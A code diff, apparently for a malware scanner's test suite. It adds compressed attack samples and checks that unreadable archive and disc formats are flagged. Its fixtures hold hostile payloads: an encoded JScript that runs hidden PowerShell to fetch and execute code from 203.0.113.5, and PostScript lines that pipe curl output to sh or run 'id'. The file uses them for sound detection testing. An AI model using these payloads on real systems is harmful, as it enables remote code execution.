@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 import contextlib
 import io
+import lzma
 import struct
 import zipfile
 import zlib
@@ -42,6 +43,28 @@ PPMD_7Z = base64.b64decode(
     "wAAABQEZBgAAAAAAABEXAGkAbgB2AG8AaQBjAGUALgBqAHMAAAAZBAAAAAAUCgEAVKWzGBV+3QEVBgEAIICkgQAA"
 )
 """``invoice.js`` packed by 7-Zip 24.08 (``-mm=PPMd``, ``-m0=PPMd``)."""
+
+
+LZ4 = base64.b64decode(
+    "BCJNGGRAp20AAIB2YXIgcz1uZXcgQWN0aXZlWE9iamVjdCgiV1NjcmlwdC5TaGVsbCIpO3MuUnVuKCJwb3dlcnNoZWxsIC1ub3AgLXcgaGlk"
+    "ZGVuIC1jIElFWChpcm0gaHR0cDovLzIwMy4wLjExMy41L2EpIik7AAAAAEBRUGc="
+)
+
+
+def lzip(raw: bytes) -> bytes:
+    """Return `raw` packed as lzip does (its manual, "File format")."""
+    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16}]
+    packed = lzma.compress(raw, lzma.FORMAT_RAW, filters=filters)
+    return b"LZIP\1\x10" + packed + struct.pack("<IQQ", zlib.crc32(raw), len(raw), 6 + len(packed) + 20)
+
+
+def ext(block: int = 2, state: int = 1) -> bytes:
+    """Return the begin of a volume of ext4: a superblock that says the size of blocks and the state."""
+    out = bytearray(8192)
+    struct.pack_into("<I", out, 1024 + 24, block)
+    struct.pack_into("<HH", out, 1024 + 56, 0xEF53, state)
+    struct.pack_into("<I", out, 1024 + 76, 1)
+    return bytes(out)
 
 
 def archive(name: bytes, raw: bytes, *, local: bytes = b"", central: bytes = b"", size: int = -1) -> bytes:
@@ -90,6 +113,8 @@ ATTACKS = {
     "an archive behind a picture of a document": document(**{"word/media/a.jpeg": PICTURE + zipped({"a.js": SCRIPT})}),
     "PPMd in ZIP": PPMD_ZIP,
     "PPMd in 7z": PPMD_7Z,
+    "lz4": LZ4,
+    "lzip": lzip(SCRIPT),
     "a command in PostScript": b"%!PS\n(%pipe%curl http://203.0.113.5/a|sh) (w) file\nshowpage\n",
     "a command in hexadecimal": b"%!PS\n<25 70 69 70 65 25 69 64> (r) file\nshowpage\n",
     "a command as output": b"%!PS\nmark /OutputFile (| id) currentdevice putdeviceprops\n",
@@ -109,6 +134,7 @@ HONEST = {
         b"notes.txt", TEXT, size=0xFFFFFFFF, central=field(1, struct.pack("<QQ", len(TEXT), len(TEXT)))
     ),
     "a document with a picture": document(**{"word/media/image1.jpeg": PICTURE}),
+    "lzip": lzip(TEXT),
     "a picture that ends like the head of an archive": PICTURE + b"\x60\xea\x40",
     "PostScript that speaks of commands": b"%!PS-Adobe-3.0\n% a %pipe% device\n(a \\(%pipe\\) device) show\n%%EOF\n\4",
     "EPS with a head of DOS": b"\xc5\xd0\xd3\xc6" + struct.pack("<6IH", 30, 20, 0, 0, 50, 8, 65535)
@@ -120,7 +146,7 @@ HONEST = {
 
 @pytest.mark.parametrize("kind", ATTACKS)
 def test_what_stands_where_nobody_looks_is_found(kind: str) -> None:
-    found = ENGINE.judge(ATTACKS[kind], "report.txt")
+    found = ENGINE.judge(ATTACKS[kind], f"invoice.js.{kind}" if kind in ("lz4", "lzip") else "report.txt")
     assert found.verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS), found
 
 
@@ -128,6 +154,40 @@ def test_what_stands_where_nobody_looks_is_found(kind: str) -> None:
 def test_what_honest_programs_write_there_is_not(kind: str) -> None:
     found = ENGINE.judge(HONEST[kind], "report.txt")
     assert found.verdict not in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS), found
+
+
+CLOSED = {
+    "ACE": (bytes(7) + b"**ACE**" + bytes(50), "archive.closed"),
+    "EGG": (b"EGGA\0\1" + bytes(50), "archive.closed"),
+    "SquashFS": (b"hsqs" + bytes(96), "archive.closed"),
+    "Apple's disc": (b"x" * 600 + b"koly" + bytes(508), "archive.closed"),
+    "ext4": (ext(), "disc.closed"),
+    "HFS": (bytes(1024) + b"H+\0\4" + bytes(2000), "disc.closed"),
+    "ext4 in a partition": (
+        (bytes(446) + struct.pack("<B3sB3sII", 0, b"", 0x83, b"", 1, 16)).ljust(510, b"\0") + b"\x55\xaa" + ext(),
+        "disc.closed",
+    ),
+    "LUKS": (b"LUKS\xba\xbe" + bytes(600), "disc.closed"),
+}
+
+
+@pytest.mark.parametrize("kind", CLOSED)
+def test_a_container_that_is_not_read_is_never_clean(kind: str) -> None:
+    raw, rule = CLOSED[kind]
+    found = ENGINE.judge(raw, "a.bin")
+    assert (found.verdict, [one.rule for one in found.findings]) == (Verdicts.UNREADABLE, [rule])
+
+
+@pytest.mark.parametrize("raw", [ext(block=9), ext(state=0), b"x" * 1080 + b"\x53\xef" + b"x" * 900])
+def test_a_mark_of_two_bytes_alone_is_no_disc(raw: bytes) -> None:
+    assert ENGINE.judge(raw, "a.bin").verdict is Verdicts.CLEAN
+
+
+def test_an_archive_of_a_dead_kind_weighs_by_mail() -> None:
+    head = b"From: a@b.example\r\nTo: c@d.example\r\nSubject: report\r\nContent-Type: application/octet-stream\r\n"
+    body = base64.encodebytes(CLOSED["ACE"][0])
+    mail = head + b"Content-Disposition: attachment; filename=a.ace\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body
+    assert "archive.closed" in [one.rule for one in ENGINE.judge(mail, "a.eml").findings if one.weight]
 
 
 @pytest.mark.parametrize("kind", [PPMD_ZIP, PPMD_7Z], ids=["zip", "7z"])
